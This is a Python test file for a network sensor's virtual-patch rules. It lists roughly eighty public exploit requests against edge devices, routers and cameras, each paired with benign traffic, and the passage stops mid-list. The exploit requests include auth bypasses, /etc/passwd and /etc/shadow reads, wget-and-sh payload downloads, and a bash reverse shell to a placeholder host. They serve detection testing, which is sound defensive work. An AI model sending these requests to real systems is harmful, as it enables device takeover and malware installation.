"""KEV virtual-patch pack, edge/network/device half: each rule fires on its public exploit and never on normal use."""
from __future__ import annotations

import base64

import pytest

from sensor.rules import load_rules
from tests.detect.conftest import req

PACK_FILE = "sensor/vpatches/kev-edge.yaml"
PACK = load_rules(PACK_FILE)

FORM = [("Content-Type", "application/x-www-form-urlencoded")]
JSON = [("Content-Type", "application/json")]
XML = [("Content-Type", "text/xml; charset=utf-8")]
UA = [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0")]


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


AJP_BODY = (bytes.fromhex("204b00000200000000000000002f746d75692f436f6e74726f6c2f666f726d0000")
            + b"\x00\x0b_form_name\x00\x00\x0etest=1&handler=/tmui/system/user/create"
            + b"&form_page=/tmui/system/user/create.jsp&systemuser-hidden=[[\"Administrator\",\"[All]\"]]")

SAML_SSRF = (b'<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
             b'<soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
             b'<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:SignedInfo>'
             b'<ds:SignatureValue>qwerty</ds:SignatureValue><ds:KeyInfo><ds:RetrievalMethod '
             b'URI="http://127.0.0.1:8090/api/v1/license/keys-status/%3Bpython%20-c%20%27import%20socket%27%3B"/>'
             b'<ds:X509Data/></ds:KeyInfo><ds:Object></ds:Object></ds:Signature></soap:Body></soap:Envelope>')
SAML_OK = (b'<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
           b'<soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:KeyInfo>'
           b'<ds:RetrievalMethod URI="#cert-1" Type="http://www.w3.org/2000/09/xmldsig#X509Data"/></ds:KeyInfo>'
           b'</ds:Signature></soap:Body></soap:Envelope>')

UPNP_EXPLOIT = (b'<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
                b's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
                b'<u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost>'
                b'<NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>'
                b'<NewInternalClient>`cd /var; rm -rf nig; wget http://192.0.2.1/nig; chmod 777 nig; ./nig realtek`</NewInternalClient>'
                b'<NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription>'
                b'<NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>')
UPNP_OK = UPNP_EXPLOIT.replace(b"`cd /var; rm -rf nig; wget http://192.0.2.1/nig; chmod 777 nig; ./nig realtek`",
                               b"192.168.1.23")
UPNP_HDR = [("Content-Type", 'text/xml; charset="utf-8"'),
            ("SOAPAction", '"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"')]

HUAWEI_EXPLOIT = (b'<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
                  b's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
                  b'<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">'
                  b'<NewStatusURL>$(/bin/busybox wget -g 192.0.2.1 -l /tmp/.f -r /b; sh /tmp/.f)</NewStatusURL>'
                  b'<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>')
HUAWEI_OK = HUAWEI_EXPLOIT.replace(b"$(/bin/busybox wget -g 192.0.2.1 -l /tmp/.f -r /b; sh /tmp/.f)",
                                   b"http://update.example.net/status").replace(
                                       b"$(echo HUAWEIUPNP)", b"http://update.example.net/fw.bin")

FWB_ADMIN = b64('{"username": "admin", "profname": "prof_admin", "vdom": "root", "loginname": "admin"}')
CS_ARCHIVE = "/api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection"

# (rule ids expected, request) — each request is the exploit as the public PoC / scanner template sends it.
EXPLOITS = [
    # Fortinet
    ({"CVE-2018-13379"}, req("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession")),
    ({"CVE-2018-13382"}, req("/remote/logincheck", "POST", FORM,
                             b"ajax=1&username=admin&realm=&credential=NewPass123&magic=4tinet2095866")),
    ({"CVE-2022-40684", "CVE-2022-40684-b"}, req(
        "/api/v2/cmdb/system/admin/admin", "PUT",
        [("User-Agent", "Report Runner"), ("Forwarded", 'for="[127.0.0.1]:8888";by="[127.0.0.1]:8888"')] + JSON,
        b'{"ssh-public-key1": "\\"ssh-rsa AAAAB3NzaC1yc2E attacker@host\\""}')),
    ({"CVE-2025-25257"}, req("/api/fabric/device/status", "GET",
                             [("Authorization", "Bearer AAAAAA'or'1'='1")])),
    ({"CVE-2025-64446", "CVE-2025-64446-b"}, req(
        "/api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi", "POST",
        [("CGIINFO", FWB_ADMIN)] + JSON, b'{"data": {"name": "x", "access-profile": "prof_admin", "password": "x"}}')),
    # Citrix
    ({"CVE-2019-19781"}, req("/vpn/../vpns/cfg/smb.conf")),
    ({"CVE-2019-19781", "CVE-2019-19781-b"}, req(
        "/vpn/../vpns/portal/scripts/newbm.pl", "POST",
        [("NSC_USER", "../../../netscaler/portal/templates/abcd"), ("NSC_NONCE", "nsroot")] + FORM,
        b"url=http://example.com&title=[%25+template.new({'BLOCK'='print+`id`'})+%25]&desc=desc&UI_inuse=RfWeb")),
    ({"CVE-2020-8193"}, req("/pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot"
                            "&set=1", "POST", [("Content-Type", "application/xml"), ("X-NITRO-USER", "xpyZxwy6"),
                                               ("X-NITRO-PASS", "xWXHUJ56")], b"<appfwprofile><login></login></appfwprofile>")),
    ({"CVE-2023-3519"}, req("/gwtest/formssso?event=start&target=" + "A" * 600)),
    ({"CVE-2023-4966"}, req("/oauth/idp/.well-known/openid-configuration", host="a" * 24812)),
    ({"CVE-2025-5777"}, req("/p/u/doAuthentication.do", "POST", FORM, b"login")),
    ({"CVE-2019-12989"}, req("/sdwan/nitro/v1/config/get_package_file?action=file_download", "POST",
                             [("SSL_CLIENT_VERIFY", "SUCCESS")] + JSON,
                             b'{"get_package_file": {"site_name": "blah\' union select \'tenable\',\'zero\',\'day\','
                             b'\'research\' INTO OUTFILE \'/tmp/token_0\';#", "appliance_type": "primary",'
                             b' "package_type": "active"}}')),
    # Ivanti / Pulse / MobileIron
    ({"CVE-2019-11510"}, req("/dana-na/../dana/html5acc/guacamole/../../../../../../../etc/passwd"
                             "?/dana/html5acc/guacamole/")),
    ({"CVE-2023-46805"}, req("/api/v1/totp/user-backup-code/../../system/system-information")),
    ({"CVE-2023-46805"}, req("/api/v1/cav/client/status/../../admin/options")),
    ({"CVE-2023-46805", "CVE-2024-21887"}, req(
        "/api/v1/totp/user-backup-code/../../license/keys-status/%3bpython%20-c%20%27import%20socket%27%3b")),
    ({"CVE-2023-46805", "CVE-2024-21887-b"}, req(
        CS_ARCHIVE, "POST", JSON,
        b'{"type": ";python -c \'import os;os.system(\\"id\\")\';", "txtGCPProject": "a", "txtGCPSecret": "a",'
        b' "txtGCPPath": "a", "txtGCPBucket": "a"}')),
    ({"CVE-2024-21893"}, req("/dana-ws/saml20.ws", "POST", XML, SAML_SSRF)),
    ({"CVE-2023-35078"}, req("/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1")),
    ({"CVE-2023-35082"}, req("/mifs/asfV3/api/v2/authorized/users?adminDeviceSpaceId=1")),
    ({"CVE-2025-4427", "CVE-2025-4428"}, req(
        "/mifs/rs/api/v2/featureusage?format=%24%7b%27%27.getClass().forName(%27java.lang.Runtime%27)"
        ".getMethod(%27getRuntime%27).invoke(null).exec(%27id%27)%7d")),
    ({"CVE-2020-15505"}, req("/mifs/.;/services/LogService", "POST", [("Content-Type", "x-application/hessian")],
                             b"c\x02\x00m\x00\x04data")),
    ({"CVE-2024-8190"}, req("/gsb/datetime.php", "POST", FORM,
                            b"dateTimeFormUpdate=1&TIMEZONE=%3becho%20x%3e/tmp/a%3b&CSRFTOKEN=abc")),
    ({"CVE-2024-8963"}, req("/client/index.php%3F.php/gsb/users.php")),
    ({"CVE-2024-7593"}, req("/apps/zxtm/wizard.fcgi?error=1&section=Access+Management%3ALocalUsers", "POST", FORM,
                            b"_form_submitted=form&create_user=Create&group=admin&newusername=x&password1=P&password2=P")),
    # Palo Alto Networks
    ({"CVE-2024-3400"}, req("/ssl-vpn/hipreport.esp", "POST",
                            [("Cookie", "SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/"
                                        "y`curl${IFS}x.example.net?d=$(whoami)`")] + FORM,
                            b"user=a&portal=b&authcookie=c&domain=d&computer=e&client-ip=1.1.1.1")),
    ({"CVE-2024-0012"}, req("/php/ztp_gate.php/PAN_help/x.css", "GET", [("X-PAN-AUTHCHECK", "off")])),
    ({"CVE-2024-0012", "CVE-2024-9474"}, req(
        "/php/utils/createRemoteAppwebSession.php/watchTowr.js.map", "POST",
        [("X-PAN-AUTHCHECK", "off")] + FORM,
        b"user=`echo%20$(uname%20-a)%20%3E%20/var/appweb/htdocs/unauth/watchTowr.php`&userRole=superuser"
        b"&remoteHost=&vsys=vsys1")),
    ({"CVE-2025-0108"}, req("/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css")),
    ({"CVE-2017-15944"}, req("/esp/cms_changeDeviceContext.esp?device=aaaaa:a%27\";user|s.\"1337\";")),
    ({"CVE-2019-1579"}, req("/sslmgr", "POST", FORM,
                            b"scep-profile-name=%25p%25p%25p%25p%25p&appauthcookie=x&host-id=y&user-email=z")),
    # F5 BIG-IP
    ({"CVE-2020-5902"}, req("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd")),
    ({"CVE-2020-5902"}, req("/tmui/login.jsp/..;/hsqldb%0A")),
    ({"CVE-2021-22986", "CVE-2022-1388"}, req(
        "/mgmt/tm/util/bash", "POST",
        [("X-F5-Auth-Token", ""), ("Authorization", "Basic " + b64("admin:"))] + JSON,
        b'{"command": "run", "utilCmdArgs": "-c id"}')),
    ({"CVE-2021-22986-b"}, req(
        "/mgmt/shared/authn/login", "POST", JSON,
        b'{"bigipAuthCookie": "", "username": "admin", "loginReference": '
        b'{"link": "/shared/gossip"}, "userReference": {"link": "https://localhost/mgmt/shared/authz/users/admin"},'
        b' "loginReference": {"link": "http://localhost/mgmt/tm/access/bundle-install-tasks"}}')),
    ({"CVE-2022-1388"}, req("/mgmt/tm/util/bash", "POST",
                            [("Connection", "keep-alive, X-F5-Auth-Token"), ("X-F5-Auth-Token", "a"),
                             ("Authorization", "Basic " + b64("admin:"))] + JSON,
                            b'{"command": "run", "utilCmdArgs": "-c id"}')),
    ({"CVE-2023-46747"}, req("/tmui/login.jsp", "POST",
                             [("Transfer-Encoding", "chunked, chunked")] + FORM, AJP_BODY)),
    # Cisco
    ({"CVE-2023-20198"}, req("/%2577ebui_wsma_HTTP", "POST", XML,
                             b'<?xml version="1.0"?><SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/">'
                             b'<SOAP:Body><request correlator="exec1" xmlns="urn:cisco:wsma-config"><configApply>'
                             b'<config-data><cli-config-data><cmd>username x privilege 15 secret x</cmd>'
                             b'</cli-config-data></config-data></configApply></request></SOAP:Body></SOAP:Envelope>')),
    ({"CVE-2020-3452"}, req("/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua"
                            "&default-language&lang=../")),
    ({"CVE-2020-3452"}, req("/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=.."
                            "&name=%2bCSCOE%2b/portal_inc.lua")),
    ({"CVE-2020-3580"}, req("/+CSCOE+/saml/sp/acs?tgname=a", "POST", FORM,
                            b"SAMLResponse=%22%3E%3Csvg/onload=alert(document.domain)%3E")),
    ({"CVE-2020-3187"}, req("/+CSCOE+/session_password.html", "GET", [("Cookie", "token=../+CSCOU+/csco_logo.gif")])),
    ({"CVE-2018-0296"}, req("/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions")),
    # VMware
    ({"CVE-2021-21972"}, req("/ui/vropspluginui/rest/services/uploadova", "POST",
                             [("Content-Type", "multipart/form-data; boundary=XX")],
                             b'--XX\r\nContent-Disposition: form-data; name="uploadFile"; filename="a.tar"\r\n'
                             b"Content-Type: application/octet-stream\r\n\r\ntardata\r\n--XX--\r\n")),
    ({"CVE-2021-21985"}, req("/ui/h5-vsan/rest/proxy/service/&vsanProviderUtils_setVmodlHelper/setTargetObject",
                             "POST", JSON, b'{"methodInput": [null]}')),
    ({"CVE-2021-22005"}, req("/analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../../../../../etc/cron.d/x",
                             "POST", JSON, b'"* * * * * root id"')),
    ({"CVE-2021-22005-b"}, req("/analytics/ceip/sdk/..;/..;/..;/analytics/ph/api/dataapp/agent?_c=test&_i=1",
                               "POST", JSON, b'{"manifestSpec": {}, "objectType": "a2", "collectionTriggerDataNeeded":'
                                             b' true, "deploymentDataNeeded": true}')),
    ({"CVE-2022-22954"}, req("/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template.utility"
                             ".Execute%22%3fnew()(%22cat%20/etc/hosts%22)%7d")),
    ({"CVE-2023-20887"}, req("/saas./resttosaasservlet", "POST", [("Content-Type", "application/x-thrift")],
                             b'[1,"createSupportBundle",1,0,{"1":{"str":"1111"},"2":{"str":"`id`"}}]')),
    # SonicWall, Check Point, Juniper, Array, Zyxel
    ({"CVE-2024-53704"}, req("/cgi-bin/sslvpnclient?launchplatform=", "GET",
                             [("Cookie", "swap=" + base64.b64encode(b"\x00" * 32).decode())])),
    ({"CVE-2024-24919"}, req("/clients/MyCRL", "POST", [], b"aCSHELL/../../../../../../../etc/shadow")),
    ({"CVE-2023-36845"}, req("/?PHPRC=/dev/fd/0", "POST", FORM, b'auto_prepend_file="/etc/passwd"')),
    ({"CVE-2023-36845"}, req("/webauth_operation.php?PHPRC=/tmp/php.ini", "POST", FORM, b"rs=x")),
    ({"CVE-2023-28461"}, req("/prx/000/http/localhost/client_sec/%00../../../addfolder", "GET",
                             [("X_AN_FILESHARE", "uname=t; password=t; sp_uname=t; flags=c3248;"
                                                 "fshare_template=../../../../../../../../ca/bin/monitor.sh")])),
    ({"CVE-2024-1212"}, req("/access/set?param=enableapi&value=1", "GET",
                            [("Authorization", "Basic " + b64("';echo `id`;echo ':x"))])),
    ({"CVE-2017-18368"}, req("/cgi-bin/ViewLog.asp", "POST", FORM,
                             b"remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
                             b"&remote_host=%3bcd+/tmp;wget+http://192.0.2.1/x;sh+x;%23&remoteSubmit=Save")),
    ({"CVE-2022-30525"}, req("/ztp/cgi-bin/handler", "POST", JSON,
                             b'{"command": "setWanPortSt", "proto": "dhcp", "port": "4", "vlan_tagged": "1",'
                             b' "vlanid": "5", "mtu": "; bash -c \'exec bash -i &>/dev/tcp/192.0.2.1/1270 <&1;\';",'
                             b' "data": "hi"}')),
    ({"CVE-2020-9054"}, req("/adv,/cgi-bin/weblogin.cgi?username=admin%27%3Bsleep%205%20%23&password=asdf")),
    # cameras, routers, NAS
    ({"CVE-2021-36260"}, req("/SDK/webLanguage", "PUT", FORM,
                             b'<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/x)</language>')),
    ({"CVE-2021-36260"}, req("/SDK/webLanguage", "PUT", XML, b"<language>$(wget http://x/y -O- |sh)</language>")),
    ({"CVE-2017-7921"}, req("/Security/users?auth=YWRtaW46MTEK")),
    ({"CVE-2017-7921"}, req("/onvif-http/snapshot?auth=YWRtaW46MTEK")),
    ({"CVE-2021-33044"}, req("/RPC2_Login", "POST", JSON,
                             b'{"method": "global.login", "params": {"userName": "admin", "password": "Not Used",'
                             b' "clientType": "NetKeyboard", "loginType": "Direct", "authorityType": "Default",'
                             b' "passwordType": "Default"}, "id": 1, "session": 0}')),
    ({"CVE-2021-33045"}, req("/RPC2_Login", "POST", JSON,
                             b'{"method": "global.login", "params": {"userName": "admin", "password": "",'
                             b' "clientType": "Local", "loginType": "Loopback", "authorityType": "Default",'
                             b' "passwordType": "Default"}, "id": 1, "session": 0}')),
    ({"CVE-2015-2051"}, req("/HNAP1/", "POST",
                            [("SOAPAction", '"http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && wget '
                                            'http://192.0.2.1/x && sh x`"')] + XML, b"")),
    ({"CVE-2019-16920"}, req("/apply_sec.cgi", "POST", FORM,
                             b"html_response_page=login_pic.asp&action=ping_test&ping_ipaddr=127.0.0.1%0Awget%20-P%20"
                             b"/tmp/%20http://192.0.2.1/x.sh")),
    ({"CVE-2020-25506"}, req("/cgi-bin/system_mgr.cgi?cmd=cgi_get_log_item&total=;id;")),
    ({"CVE-2024-3272", "CVE-2024-3273"}, req(
        "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=" + b64("id"))),
    ({"CVE-2014-8361"}, req("/picsdesc.xml", "POST", UPNP_HDR, UPNP_EXPLOIT)),
    ({"CVE-2017-17215"}, req("/ctrlt/DeviceUpgrade_1", "POST",
                             [("Authorization", 'Digest username="dslf-config", realm="HuaweiHomeGateway"')] + XML,
                             HUAWEI_EXPLOIT)),
    ({"CVE-2018-10561", "CVE-2018-10562"}, req(
        "/GponForm/diag_Form?images/", "POST", [],
        b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.1/m+-O+->/tmp/m`"
        b";sh+/tmp/m&ipv=0")),
    ({"CVE-2018-10561"}, req("/menu.html?images/")),   # the bypass on any page of the router's UI
        ({"CVE-2016-6277"}, req("/cgi-bin/;cd$IFS'/tmp';wget$IFS'http://192.0.2.1/x'")),
    ({"CVE-2017-6077"}, req("/ping.cgi", "POST", FORM,
                            b"IPAddr1=1&IPAddr2=1&IPAddr3=1&IPAddr4=1&ping=Ping&ping_IPAddr=1.1.1.1%3Bcat%20/etc/passwd")),
    ({"CVE-2017-6334"}, req("/dnslookup.cgi", "POST", FORM,
                            b"host_name=www.google.com%3B%20cat%20/etc/passwd&lookup=Lookup")),
    ({"CVE-2023-1389"}, req("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E/tmp/x)")),
    ({"CVE-2020-8515"}, req("/cgi-bin/mainfunction.cgi", "POST", FORM,
                            b"action=login&keyPath=%27%0A%2fbin%2fcat%20%2fetc%2fpasswd%0A%27&loginUser=a&loginPwd=a")),
    ({"CVE-2020-8515"}, req("/cgi-bin/mainfunction.cgi", "POST", FORM,
                            b"action=login&keyPath=1&loginUser=a&loginPwd=a&rtick=%27%0Aid%0A%27")),
    ({"CVE-2018-18472"}, req("/api/1.0/rest/language_configuration", "PUT", FORM,
                             b"language=en_US`id > /var/www/x.txt`")),
    ({"CVE-2020-28188"}, req("/include/makecvs.php?Event=%60echo%20x%20%3E%20/usr/www/x.php%60")),
    ({"CVE-2021-20090"}, req("/images/..%2fapply_abstract.cgi", "POST", FORM,
                             b"action=start_ping&httoken=x&submit_button=ping.html&action_params=blink_time%3D5"
                             b"&ARC_ping_ipaddress=212.192.241.72%0AARC_SYS_TelnetdEnable=1")),
    ({"CVE-2021-20090"}, req("/js/..%2finfo.html")),
    # stop 20
    ({"CVE-2024-55591"}, req("/ws/cli/open?cols=162&rows=100&local_access_token=admin", "GET",
                             UA + [("Upgrade", "websocket"), ("Connection", "Upgrade")])),
    ({"CVE-2023-20198-b"}, req("/webui/logoutconfirm.html?logon_hash=1", "POST", FORM + UA, b"")),
]

# (rule id whose neighbourhood this is, request) — the product's normal use; the pack must stay silent.
BENIGN = [
    ("CVE-2018-13379", req("/remote/fgt_lang?lang=en", "GET", UA)),
    ("CVE-2018-13382", req("/remote/logincheck", "POST", FORM + UA,
                           b"ajax=1&username=alice&realm=&credential=S3cret%21pass")),
    ("CVE-2022-40684", req("/api/v2/cmdb/system/admin/admin", "GET",
                           UA + [("Authorization", "Bearer 7hw3wxt6Hq8nnnQ0h0x5mNbq1Gfjs8")])),
    ("CVE-2022-40684-b", req("/api/v2/cmdb/system/admin", "GET",
                             UA + [("Forwarded", "for=203.0.113.7;by=127.0.0.1;proto=https")])),
    ("CVE-2025-25257", req("/api/fabric/device/status", "GET",
                           [("Authorization", "Bearer 5b0dfe1a9c2c4f6b8d7e3a1f0c9b8a7d")])),
    ("CVE-2025-64446", req("/api/v2.0/cmdb/system/admin", "GET", UA + [("Cookie", "APSCOOKIE_123=abc")])),
    ("CVE-2025-64446-b", req("/api/v2.0/system/status.systemstatus", "GET", UA)),
    ("CVE-2019-19781", req("/vpn/index.html", "GET", UA)),
    ("CVE-2019-19781-b", req("/vpn/tmindex.html", "GET", UA + [("NSC_USER", "alice")])),
    ("CVE-2020-8193", req("/pcidss/report?type=allprofiles&sid=e0d6f3a8c1b4&username=nsroot", "GET", UA)),
    ("CVE-2023-3519", req("/gwtest/formssso?event=start&target=https%3A%2F%2Fintranet.example.com%2Fapps%2Fportal"
                          "%3Fid%3D12345", "GET", UA)),
    ("CVE-2023-4966", req("/oauth/idp/.well-known/openid-configuration", "GET", UA, host="gateway.example.com")),
    ("CVE-2025-5777", req("/p/u/doAuthentication.do", "POST", FORM + UA,
                          b"login=alice&passwd=S3cret%21&savecredentials=false&nsg-x1-logon-button=Log+On"
                          b"&StateContext=")),
    ("CVE-2025-5777", req("/p/u/doAuthentication.do", "POST", FORM + UA, b"login=&passwd=")),
    ("CVE-2019-12989", req("/sdwan/nitro/v1/config/get_package_file?action=file_download", "POST", JSON,
                           b'{"get_package_file": {"site_name": "branch-12", "appliance_type": "primary",'
                           b' "package_type": "active"}}')),
    ("CVE-2019-11510", req("/dana-na/auth/url_default/welcome.cgi", "GET", UA)),
    ("CVE-2019-11510", req("/dana/home/index.cgi", "GET", UA)),
    ("CVE-2023-46805", req("/api/v1/totp/user-backup-code", "GET", UA)),
    ("CVE-2023-46805", req("/api/v1/cav/client/status", "GET", UA)),
    ("CVE-2024-21887", req("/api/v1/license/keys-status", "GET", UA)),
    ("CVE-2024-21887-b", req("/api/v1/system/maintenance/archiving/cloud-server-test-connection", "POST", JSON,
                             b'{"type": "gcp", "txtGCPProject": "proj", "txtGCPSecret": "s", "txtGCPPath": "/logs",'
                             b' "txtGCPBucket": "b"}')),
    ("CVE-2024-21893", req("/dana-ws/saml20.ws", "POST", XML, SAML_OK)),
    ("CVE-2023-35078", req("/mifs/admin/rest/api/v2/authorized/users?adminDeviceSpaceId=1", "GET",
                           UA + [("Cookie", "JSESSIONID=ABCDEF0123456789")])),
    ("CVE-2023-35082", req("/mifs/user/login.jsp", "GET", UA)),
    ("CVE-2025-4427", req("/mifs/rs/api/v2/featureusage?format=json", "GET", UA)),
    ("CVE-2025-4428", req("/api/v2/featureusage_history?format=csv", "GET", UA)),
    ("CVE-2020-15505", req("/mifs/services/LogService", "POST", [("Content-Type", "x-application/hessian")],
                           b"c\x02\x00m\x00\x04data")),
    ("CVE-2024-8190", req("/gsb/datetime.php", "POST", FORM,
                          b"dateTimeFormUpdate=1&TIMEZONE=America%2FNew_York&CSRFTOKEN=abc")),
    ("CVE-2024-8190", req("/gsb/datetime.php", "POST", FORM,
                          b"dateTimeFormUpdate=1&TIMEZONE=Etc%2FGMT%2B5&CSRFTOKEN=abc")),
    ("CVE-2024-8963", req("/client/index.php?page=login", "GET", UA)),
    ("CVE-2024-7593", req("/apps/zxtm/wizard.fcgi?section=Manage+a+New+Service", "GET", UA)),
    ("CVE-2024-3400", req("/ssl-vpn/hipreport.esp", "POST",
                          [("Cookie", "SESSID=6f1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d")] + FORM,
                          b"user=alice&portal=gp&authcookie=abc&domain=corp&computer=LAPTOP-1&client-ip=10.0.0.5")),
    ("CVE-2024-0012", req("/php/login.php", "GET", UA)),
    ("CVE-2024-9474", req("/php/utils/createRemoteAppwebSession.php", "POST", FORM + UA,
                          b"user=admin&userRole=superuser&remoteHost=&vsys=vsys1")),
    ("CVE-2025-0108", req("/unauth/php/login.php", "GET", UA)),
    ("CVE-2017-15944", req("/esp/cms_changeDeviceContext.esp?device=007051000012345", "GET", UA)),
    ("CVE-2019-1579", req("/sslmgr", "POST", FORM,
                          b"scep-profile-name=gp-scep&appauthcookie=x&host-id=y&user-email=alice%40example.com")),
    ("CVE-2020-5902", req("/tmui/login.jsp", "GET", UA)),
    ("CVE-2020-5902", req("/tmui/tmui/locallb/workspace/fileRead.jsp?fileName=/config/x", "GET", UA)),
    ("CVE-2021-22986", req("/mgmt/tm/sys/version", "GET", [("X-F5-Auth-Token", "V5I6SPOCQIKBP5TFSXZ5CVT4TH")])),
    ("CVE-2021-22986-b", req("/mgmt/shared/authn/login", "POST", JSON,
                             b'{"username": "admin", "password": "S3cret!", "loginProviderName": "tmos"}')),
    ("CVE-2021-22986-b", req("/mgmt/shared/authn/login", "POST", JSON,
                             b'{"username": "alice", "password": "pw", "loginReference": {"link": '
                             b'"https://localhost/mgmt/cm/system/authn/providers/ldap/1f44a60e/login"}}')),
    ("CVE-2022-1388", req("/mgmt/shared/echo", "GET", [("Authorization", "Basic " + b64("f2e1d0c9b8a7:"))])),
    ("CVE-2022-1388", req("/mgmt/tm/util/bash", "POST",
                          [("Authorization", "Basic " + b64("admin:S3cret!"))] + JSON,
                          b'{"command": "run", "utilCmdArgs": "-c uptime"}')),
    ("CVE-2023-46747", req("/tmui/login.jsp", "POST", FORM + UA, b"username=admin&passwd=S3cret%21")),
    ("CVE-2023-20198", req("/webui/", "GET", UA)),
    ("CVE-2023-20198", req("/webui/logoutconfirm.html", "GET", UA)),
    ("CVE-2020-3452", req("/+CSCOT+/translation-table?type=mst&textdomain=AnyConnect&lang=en-us", "GET", UA)),
    ("CVE-2020-3452", req("/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=win&resource-type=logo"
                          "&name=logo.png", "GET", UA)),
    ("CVE-2020-3580", req("/+CSCOE+/saml/sp/acs?tgname=a", "POST", FORM,
                          b"SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXMi%2BPC9zYW1scDpSZXNwb25zZT4%3D"
                          b"&RelayState=abc")),
    ("CVE-2020-3187", req("/+CSCOE+/session_password.html", "GET", [("Cookie", "token=a1b2c3d4e5f6; webvpnlogin=1")])),
    ("CVE-2018-0296", req("/+CSCOE+/logon.html", "GET", UA)),
    ("CVE-2021-21972", req("/ui/vropspluginui/rest/services/getstatus", "GET", UA)),
    ("CVE-2021-21985", req("/ui/h5-vsan/rest/proxy/service/com.vmware.vsan.client.services.capability"
                           ".VsanCapabilityProvider/getClusterCapabilityData", "POST", JSON, b'{"methodInput": []}')),
    ("CVE-2021-22005", req("/analytics/telemetry/ph/api/hyper/send?_c=vSphere.vapi.6_7&_i=9D36C850-1612-4EC4-B8DD",
                           "POST", JSON, b'{"k": 1}')),
    ("CVE-2021-22005-b", req("/analytics/telemetry/ph/api/level?_c=test", "GET", UA)),
    ("CVE-2022-22954", req("/catalog-portal/ui/oauth/verify?error=&deviceType=ios&deviceUdid=1234-abcd", "GET", UA)),
    ("CVE-2023-20887", req("/saas/resttosaasservlet", "POST", [("Content-Type", "application/x-thrift")], b"[1]")),
    ("CVE-2024-53704", req("/cgi-bin/sslvpnclient?launchplatform=", "GET",
                           [("Cookie", "swap=" + base64.b64encode(bytes(range(7, 39))).decode())])),
    ("CVE-2024-24919", req("/clients/MyCRL", "POST", [], b"aCSHELL/ca.crl")),
    ("CVE-2023-36845", req("/webauth_operation.php?lang=en", "POST", FORM, b"rs=get_status")),
    ("CVE-2023-28461", req("/prx/000/http/localhost/client_sec/files", "GET",
                           [("X_AN_FILESHARE", "uname=alice; password=pw; sp_uname=alice; flags=c3248")])),
    ("CVE-2024-1212", req("/access/set?param=enableapi&value=1", "GET", [("Authorization", "Basic " + b64("bal:S3cret!"))])),
    ("CVE-2024-1212", req("/access/listvs", "GET", [("Authorization", "Basic " + b64("o'brien:pw;x"))])),
    ("CVE-2017-18368", req("/cgi-bin/ViewLog.asp", "POST", FORM,
                           b"remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
                           b"&remote_host=192.168.1.10&remoteSubmit=Save")),
    ("CVE-2022-30525", req("/ztp/cgi-bin/handler", "POST", JSON,
                           b'{"command": "setWanPortSt", "proto": "dhcp", "port": "4", "vlan_tagged": "1",'
                           b' "vlanid": "5", "mtu": "1500", "data": "hi"}')),
    ("CVE-2020-9054", req("/adv,/cgi-bin/weblogin.cgi?username=admin&password=S3cret")),
    ("CVE-2021-36260", req("/SDK/webLanguage", "PUT", XML,
                           b'<?xml version="1.0" encoding="UTF-8"?><language>en</language>')),
    ("CVE-2017-7921", req("/ISAPI/Security/users", "GET", [("Authorization", "Basic " + b64("admin:12345"))])),
    ("CVE-2021-33044", req("/RPC2_Login", "POST", JSON,
                           b'{"method": "global.login", "params": {"userName": "admin", "password": "9a8b7c",'
                           b' "clientType": "Web3.0", "loginType": "Direct", "authorityType": "Default",'
                           b' "passwordType": "Default"}, "id": 2, "session": "a1b2c3"}')),
